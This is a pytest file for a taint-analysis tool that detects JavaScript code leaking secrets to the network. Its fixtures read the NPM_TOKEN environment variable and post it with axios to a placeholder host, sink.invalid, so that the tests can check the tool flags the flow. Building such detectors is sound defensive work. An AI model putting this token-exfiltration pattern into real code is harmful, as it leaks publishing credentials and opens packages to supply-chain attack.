"""What is put into an object after it was made."""

import pytest

from pratique.analysis.facts import Capability, Taint
from tests.analysis.languages.javascript.reading import flows

_ASK = "const axios = require('axios');\nconst S = process.env.NPM_TOKEN;\n"
_SEND = "axios.post('https://sink.invalid/', o);"


@pytest.mark.parametrize(
    "source",
    [
        f"const o = {{}};\no.body = S;\n{_SEND}",
        f"let o = {{ a: 1 }};\no['body'] = S;\n{_SEND}",
        f"const o = {{ a: {{}} }};\no.a.b = S;\n{_SEND}",
        f"const o = {{}};\nObject.assign(o, {{ a: 1 }}, {{ S }});\n{_SEND}",
        f"const o = {{}};\no.a = S;\nconst p = JSON.stringify(o);\n{_SEND.replace(', o', ', p')}",
        f"function f() {{ const o = {{}}; o.a = S; return o; }}\n{_SEND.replace(', o', ', f()')}",
    ],
)
def test_what_is_put_into_an_object_is_sent_with_it(source: str) -> None:
    (found,) = [flow for flow in flows(_ASK + source) if flow[0] is Capability.NETWORK]

    assert "axios.post" == found[1]
    assert {Taint.ENVIRONMENT, Taint.SECRETS} <= found[2]


@pytest.mark.parametrize(
    "source",
    [
        f"const o = {{}};\no.proxy = S;\n{_SEND}",
        f"const o = {{}};\no.headers = {{ Authorization: S }};\n{_SEND}",
        f"const o = {{}};\nfunction f() {{ const o = {{}}; o.a = S; return 1; }}\n{_SEND}",
        f"const o = {{}}, p = {{}};\np.a = S;\n{_SEND}",
        f"const o = {{}};\no.a = () => S;\n{_SEND}",
    ],
    ids=["how it is asked", "who asks", "another of the name", "another", "a function"],
)
def test_nothing_else_is(source: str) -> None:
    assert [] == [flow for flow in flows(_ASK + source) if flow[0] is Capability.NETWORK]
